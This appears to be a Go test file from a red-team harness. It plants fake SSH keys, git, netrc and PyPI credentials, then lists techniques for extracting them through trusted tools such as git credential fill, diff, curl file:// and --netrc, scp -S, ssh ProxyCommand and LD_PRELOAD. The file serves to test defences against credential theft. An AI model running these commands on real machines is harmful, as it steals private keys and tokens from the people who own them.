//go:build linux

package redteam

import (
	"os"
	"path/filepath"
)

// Class c: a credential's own program (or a trusted tool) as an oracle:
// asked the right way, it hands the secret over.

func plantSSH(r *run) *secret {
	return r.plant("ssh", "~/.ssh/id_ed25519",
		"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ%s\n-----END OPENSSH PRIVATE KEY-----\n")
}

func plantGitCredentials(r *run) {
	r.plant("git", "~/.git-credentials", "https://rt-bot:%s@github.com\n")
	r.file("~/.gitconfig", "[credential]\n\thelper = store\n[user]\n\tname = rt\n\temail = rt@example.com\n", 0)
}

func plantNetrc(r *run) {
	r.plant("netrc", "~/.netrc", "machine api.github.com login rt-bot password %s\n")
}

// copyBin copies a program of the matrix's bin/ into the workspace: a
// helper the tree brought along.
func copyBin(r *run, name string) {
	b, err := os.ReadFile(filepath.Join(r.w.bin, name))
	must(r.t, err)
	r.file("./"+name, string(b), 0o755)
}

var oracleTechniques = []*technique{
	{
		name: "c-git-credential-fill", class: "c",
		goal:   "git's credential helper (store) is asked for github.com's password: `git credential fill`",
		setup:  plantGitCredentials,
		script: `printf 'protocol=https\nhost=github.com\n\n' | git credential fill > "$W/loot"` + "\n",
		check:  lootHas,
	},
	{
		name: "c-git-config-file", class: "c",
		goal: "git reads PyPI's credentials as a config file and lists their keys and values",
		setup: func(r *run) {
			r.plant("pypi", "~/.pypirc", "[distutils]\nindex-servers = pypi\n\n[pypi]\nusername = __token__\npassword = pypi-%s\n")
		},
		script: `git config --file "$HOME/.pypirc" --list > "$W/loot"` + "\n",
		check:  lootHas,
	},
	{
		name: "c-git-diff-credentials", class: "c",
		goal:   "git diffs its own credential store against /dev/null (git diff --no-index)",
		setup:  plantGitCredentials,
		script: `git diff --no-index /dev/null "$HOME/.git-credentials" > "$W/loot"` + "\n",
		check:  lootHas,
	},
	{
		name: "c-diff-ssh-key", class: "c",
		goal:   "diff prints an SSH private key as a diff against /dev/null",
		setup:  func(r *run) { plantSSH(r) },
		script: `diff /dev/null "$HOME/.ssh/id_ed25519" > "$W/loot"` + "\n",
		check:  lootHas,
	},
	{
		name: "c-curl-file-netrc", class: "c",
		goal:   "curl, the .netrc's own client, copies it with a file:// URL",
		setup:  plantNetrc,
		script: `curl -s "file://$HOME/.netrc" -o "$W/loot"` + "\n",
		check:  lootHas,
	},
	{
		name: "c-curl-netrc-host", class: "c", sends: true,
		goal:   "curl sends the .netrc password for api.github.com to the sink: --resolve points the name at loopback",
		setup:  plantNetrc,
		script: `curl -s --netrc --resolve "api.github.com:$SINK:127.0.0.1" "http://api.github.com:$SINK/user" -o /dev/null` + "\n",
		check:  sinkHas,
	},
	{
		name: "c-scp-helper", class: "c",
		goal:   "scp copies the SSH key to a 'host' whose ssh is a helper program of the tree (scp -S) that keeps the bytes",
		setup:  func(r *run) { plantSSH(r); copyBin(r, "fakessh") },
		script: `RT_LOOT="$W/loot" scp -O -S "$W/fakessh" "$HOME/.ssh/id_ed25519" backup:/tmp/key` + "\n",
		check:  lootHas,
	},
	{
		name: "c-ssh-proxycommand", class: "c",
		goal:   "ssh runs a ProxyCommand that copies the key it was given",
		setup:  func(r *run) { plantSSH(r) },
		script: `ssh -F /dev/null -o BatchMode=yes -o StrictHostKeyChecking=no -i "$HOME/.ssh/id_ed25519" -o "ProxyCommand=/bin/sh -c 'cat $HOME/.ssh/id_ed25519 > $W/loot'" backup 2>/dev/null` + "\n",
		check:  lootHas,
	},
	{
		name: "c-ld-preload-client", class: "c",
		goal:   "ssh-keygen, a client of the key, runs with a preloaded library that dumps every byte it reads",
		setup:  func(r *run) { plantSSH(r); copyBin(r, "libdump.so") },
		script: `RT_DUMP="$W/loot" LD_PRELOAD="$W/libdump.so" ssh-keygen -y -f "$HOME/.ssh/id_ed25519" > /dev/null 2>&1` + "\n",
		check:  lootHas,
	},
}
